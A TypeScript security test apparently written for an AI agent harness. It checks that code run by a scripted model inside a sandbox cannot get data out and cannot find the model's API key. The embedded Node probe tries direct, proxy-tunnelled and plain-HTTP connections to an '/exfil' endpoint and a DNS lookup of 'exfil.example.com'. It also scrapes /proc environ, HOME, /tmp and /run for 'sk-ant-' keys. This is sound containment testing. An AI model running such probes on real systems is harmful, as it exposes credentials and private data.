// The egress issue's attack, as a real chain: the real claude binary in real bwrap boxes, a
// scripted model, real git. The builder's test script (run through an allowed command) tries to
// reach a canary server on the host's loopback — directly, through the proxy as a CONNECT
// target and as a plain-HTTP target — and to look a name up; it also hunts for the model key
// (its environment, every process's /proc environ, its HOME, the box's /tmp and /run).
// Properties: the canary sees nothing, every refusal is journaled, the key is nowhere in the
// box while the CLI still authenticates (the model server saw the real key), and the chain
// PASSes: a refusal never fails a step by itself.
import { createServer, type Server, type Socket } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { egressSummary } from "../../src/policy/index.js";
import { useModelServer, withRole } from "../runner/chain-helpers.js";
import { builderRunsTestSh, fakeModelKey, outcome, runAttack, runOutputs } from "./security-kit.js";

const server = useModelServer();

let canary: Server;
let canaryPort = 0;
let canaryConnections = 0;
const sockets = new Set<Socket>();

beforeAll(async () => {
  canary = createServer((s) => {
    canaryConnections++;
    sockets.add(s);
    s.on("error", () => {});
    s.on("close", () => sockets.delete(s));
    s.end("canary\n");
  });
  await new Promise<void>((r) => canary.listen(0, "127.0.0.1", r));
  canaryPort = (canary.address() as { port: number }).port;
});

afterAll(async () => {
  for (const s of sockets) s.destroy();
  await new Promise<void>((r) => canary.close(() => r()));
});

/** node, in the builder's box: every way out it can think of, and every place a key could be. */
function probeJs(port: number): string {
  return `
const http = require("http"), net = require("net"), dns = require("dns"), fs = require("fs");
const out = {};
const step = (p) => Promise.race([p, new Promise((r) => setTimeout(() => r("timeout"), 6000))]);
const proxy = new URL(process.env.HTTPS_PROXY || "http://127.0.0.1:1");
const direct = () => new Promise((r) => {
  const s = net.connect({ host: "127.0.0.1", port: ${port} });
  s.on("connect", () => { s.destroy(); r("connected"); });
  s.on("error", (e) => r(e.code));
});
const tunnel = () => new Promise((r) => {
  const q = http.request({ host: proxy.hostname, port: proxy.port, method: "CONNECT", path: "127.0.0.1:${port}" });
  q.on("connect", (res, s) => { s.destroy(); r(res.statusCode); });
  q.on("error", (e) => r(e.code));
  q.end();
});
const plain = () => new Promise((r) => {
  http.get({ host: proxy.hostname, port: proxy.port, path: "http://127.0.0.1:${port}/exfil?data=repo" }, (res) => { res.resume(); r(res.statusCode); })
    .on("error", (e) => r(e.code));
});
const lookup = () => new Promise((r) => dns.lookup("exfil.example.com", (e, a) => r(e ? e.code : a)));
const hunt = () => {
  let text = JSON.stringify(process.env);
  for (const p of fs.readdirSync("/proc").filter((x) => /^\\d+$/.test(x))) {
    try { text += fs.readFileSync("/proc/" + p + "/environ", "utf8"); } catch {}
    try { text += fs.readFileSync("/proc/" + p + "/cmdline", "utf8"); } catch {}
  }
  const walk = (d, depth) => {
    if (depth > 4) return;
    let es = []; try { es = fs.readdirSync(d, { withFileTypes: true }); } catch { return; }
    for (const e of es) {
      const f = d + "/" + e.name;
      if (e.isDirectory()) walk(f, depth + 1);
      else if (e.isFile()) { try { const b = fs.readFileSync(f); if (b.length < 1e6) text += b.toString("latin1"); } catch {} }
    }
  };
  for (const d of [process.env.HOME, "/tmp", "/run"]) walk(d, 0);
  return text;
};
(async () => {
  out.direct = await step(direct());
  out.tunnel = await step(tunnel());
  out.plain = await step(plain());
  out.lookup = await step(lookup());
  const text = hunt();
  out.keyLike = (text.match(/sk-ant-[A-Za-z0-9_-]{20,}/g) || []).filter((v, i, a) => a.indexOf(v) === i);
  out.placeholder = text.includes("forge-placeholder-credential");
  console.log("EGRESS-PROBE " + JSON.stringify(out));
})();
`;
}

function testSh(port: number): string {
  return [
    "#!/bin/sh",
    "cat > /tmp/probe.js <<'EOF'",
    probeJs(port),
    "EOF",
    "node /tmp/probe.js",
    'echo "1 passed"',
    "exit 0",
    "",
  ].join("\n");
}

describe("a builder's code gets out only through its box's door (egress)", () => {
  it("the canary sees nothing, the refusals are journaled, the key is not in the box, and the chain passes", async () => {
    const key = fakeModelKey();
    canaryConnections = 0;
    const r = await runAttack(server, withRole("builder", builderRunsTestSh(testSh(canaryPort))), {
      env: { ANTHROPIC_API_KEY: key },
    });
    try {
      const why = outcome(r);
      const make = server.toolResults.find((t) => t.input?.command === "make test");
      const line = /EGRESS-PROBE (.*)/.exec(make?.content ?? "")?.[1];
      expect(line, `the probe ran: ${make?.content}`).toBeDefined();
      const probe = JSON.parse(line ?? "{}");
      // No way out: the box's loopback is its own; the proxy refuses the host's loopback.
      expect(probe.direct).toBe("ECONNREFUSED");
      expect(probe.tunnel).toBe(403);
      expect(probe.plain).toBe(403);
      expect(probe.lookup).toMatch(/^(EAI_AGAIN|ENOTFOUND|ECONNREFUSED)$/);
      expect(canaryConnections).toBe(0);
      // The key: nowhere in the box; the placeholder is what the box has.
      expect(probe.keyLike).toEqual([]);
      expect(probe.placeholder).toBe(true);
      expect(make?.content).not.toContain(key);
      // The CLI still authenticated: the model endpoint saw the real key, from outside the box.
      const keys = new Set(server.requests.map((q) => q.headers["x-api-key"]));
      expect(keys).toEqual(new Set([key]));
      // The refusals, journaled with their phase and step; they did not fail the step.
      const summary = egressSummary(r.events);
      expect(summary.mode).toEqual({ mode: "proxy" });
      const denied = summary.denied.filter((d) => d.port === canaryPort);
      // The builder's own `make test` and its Stop hook's scripts/verify.sh (its agent's box),
      // and verify again after it (the verify phase's box): each probe was refused twice.
      const where = (phase: string) =>
        denied.filter((d) => d.phase === phase && d.role === "builder" && d.host === "127.0.0.1");
      expect(where("agent").length).toBeGreaterThanOrEqual(2);
      expect(where("agent").length % 2).toBe(0);
      expect(where("verify").length).toBe(2);
      expect(r.final.state, why).toBe("passed");
      // The run output names the network and the refusals.
      const text = runOutputs(r).join("\n");
      expect(text).toMatch(/egress proxy/i);
      expect(text).toContain(`127.0.0.1:${canaryPort}`);
      expect(text).toContain("The model credential stayed outside every box");
    } finally {
      await r.f.cleanup();
    }
  }, 240_000);
});
